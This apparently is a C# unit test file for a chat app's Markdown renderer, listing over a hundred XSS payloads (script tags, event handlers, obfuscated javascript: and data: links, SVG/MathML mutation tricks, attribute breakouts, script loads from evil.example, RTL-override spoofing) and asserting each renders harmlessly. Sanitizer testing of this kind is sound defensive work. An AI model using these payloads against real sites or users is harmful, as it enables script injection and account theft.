using FsCheck.Xunit;
using Xunit;

namespace AspireChat.Tests.Unit.Page.Markdown;

public sealed class HostileMessageTests
{
    public static TheoryData<string> Bodies =>
    [
        // Scripts and handlers
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script src=//evil.example/x.js></script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>",
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)//",
        "<img/src='x'/onerror='alert(1)'>",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">x</div>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\">",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=https://evil.example onclick=alert(1)>x</a>",
        "<form action=javascript:alert(1)><button>x</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<embed src=javascript:alert(1)>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><script>alert(1)</script></title>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext>",

        // SVG, MathML and other namespaces
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script xlink:href=data:,alert(1)></script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"javascript:alert(1)\">x",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",

        // Styles
        "<style>body{display:none}</style>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<p style=\"background:url(https://evil.example/x.png)\">x</p>",
        "<p style=\"position:fixed;inset:0\" class=x id=y>x</p>",
        "```\" onmouseover=alert(1) x=\"\nx\n```",
        "```js\" style=\"color:red\nx\n```",
        "~~~<script>\nalert(1)\n~~~",

        // Links with schemes that run or read something
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x]( javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](< javascript:alert(1)>)",
        "[x](java&#x73;cript:alert(1))",
        "[x](java&Tab;script:alert(1))",
        "[x](java&NewLine;script:alert(1))",
        "[x](&#106;&#97;&#118;&#97;script:alert(1))",
        "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](javascript&#58;alert(1))",
        "[x](\\javascript:alert(1))",
        "[x](javascript\\:alert(1))",
        "[x](java%0ascript:alert(1))",
        "[x](%6aavascript:alert(1))",
        "[x](&#1;javascript:alert(1))",
        "[x](\u0001javascript:alert(1))",
        "[x](java\u0000script:alert(1))",
        "[x](java\u00ADscript:alert(1))",
        "[x](java\u200Bscript:alert(1))",
        "[x](javascript://evil.example/%0aalert(1))",
        "[x](javascript://https://bank.example/%0aalert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](DATA:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "[x](file:///etc/passwd)",
        "[x](view-source:https://evil.example)",
        "[x](blob:https://evil.example/1)",
        "[x](feed:javascript:alert(1))",
        "[x](jar:https://evil.example!/x)",
        "[x](intent://evil.example#Intent;scheme=https;end)",
        "[x](ms-word:ofe|u|https://evil.example/x.docx)",
        "[x](//evil.example)",
        "[x](\\\\evil.example\\share)",
        "[x](/api/me)",
        "[x](https:javascript:alert(1))",
        "[x](https://javascript:alert(1)@evil.example)",
        "<javascript:alert(1)>",
        "<JAVASCRIPT:alert(1)>",
        "<data:text/html,alert(1)>",
        "<vbscript:msgbox(1)>",

        // Pictures
        "![x](https://evil.example/x.png)",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
        "![x](x\"onerror=\"alert(1))",
        "![\"onerror=alert(1) x=\"](https://evil.example/x.png)",
        "![x][y]\n\n[y]: javascript:alert(1)",
        "[![x](javascript:alert(1))](javascript:alert(2))",

        // Breaking out of an attribute
        "[x](https://evil.example/\"onmouseover=\"alert(1))",
        "[x](https://evil.example/'onmouseover='alert(1))",
        "[x](https://evil.example \"a\\\" onmouseover=alert(1) \\\"\")",
        "[x](<https://evil.example/\" onmouseover=alert(1) \">)",
        "[x](https://evil.example/&quot;onmouseover=&quot;alert(1))",
        "[x](https://evil.example/><script>alert(1)</script>)",
        "https://evil.example/\"onmouseover=\"alert(1)",
        "https://evil.example/<script>alert(1)</script>",
        "http://evil.example/'><img src=x onerror=alert(1)>",
        "<https://evil.example/\"onmouseover=alert(1)>",
        "<x@evil.example\"onmouseover=\"alert(1)>",
        "mailto:x@evil.example\"onmouseover=\"alert(1)",
        "www.evil.example/\"><script>alert(1)</script>",

        // Reference links
        "[x]\n\n[x]: javascript:alert(1)",
        "[x][]\n\n[x]: data:text/html,<script>alert(1)</script>",
        "[x]: javascript:alert(1) \"title\"",
        "[x]: <javascript:alert(1)>\n\n> [x]",

        // Entities and encodings
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&amp;lt;script&amp;gt;",
        "\\<script>alert(1)\\</script>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "&#x202E;txt.exe &#8238; &rlm; &zwj;",
        "[&#x202E;moc.knab](https://evil.example)",
        "`&#x1b;[2J` &#27;[2J &#x9b;2J &#0;",

        // Comments, CDATA, unclosed things
        "<!-- <script>alert(1)</script> -->",
        "<!--><script>alert(1)</script>-->",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><x/>",
        "<!DOCTYPE html><html><head>",
        "</p></div></body></html><script>alert(1)",
        "<b <script>alert(1)</script>",
        "<a href=\"",
        "<",
        "</",
        "<!",
        "<p",
        "**<script>**alert(1)**</script>**",
        "*<img src=x onerror=*alert(1)*>*",
        "> <script>\n> alert(1)\n> </script>",
        "- <script>\n- alert(1)",
        "1. <svg onload=alert(1)>",
        "# <script>alert(1)</script>",
        "| <script> |\n|---|\n| alert(1) |",
        "    <script>alert(1)</script>",
        "`<script>alert(1)</script>`",
        "``` <script>alert(1)</script>",
        "{.class #id onclick=alert(1)}\n# x {onclick=alert(1)}",
        "[x](https://evil.example){onclick=alert(1)}",
        "[**[x](javascript:alert(1))**](https://evil.example)",
        "[x [y](https://evil.example) z](javascript:alert(1))",
        "[a](https://a.example)[b](https://b.example)<https://c.example>",
    ];

    [Fact]
    public void There_are_more_than_a_hundred_of_them() => Assert.InRange(Bodies.Count, 100, int.MaxValue);

    [Theory]
    [MemberData(nameof(Bodies))]
    public void A_hostile_message_is_harmless(string body) => ParsedMessage.AssertHarmless(body);

    [Property(Arbitrary = [typeof(HostileMixtures)], MaxTest = 1000, QuietOnSuccess = true)]
    public void A_mixture_of_hostile_pieces_is_harmless(string body) => ParsedMessage.AssertHarmless(body);
}
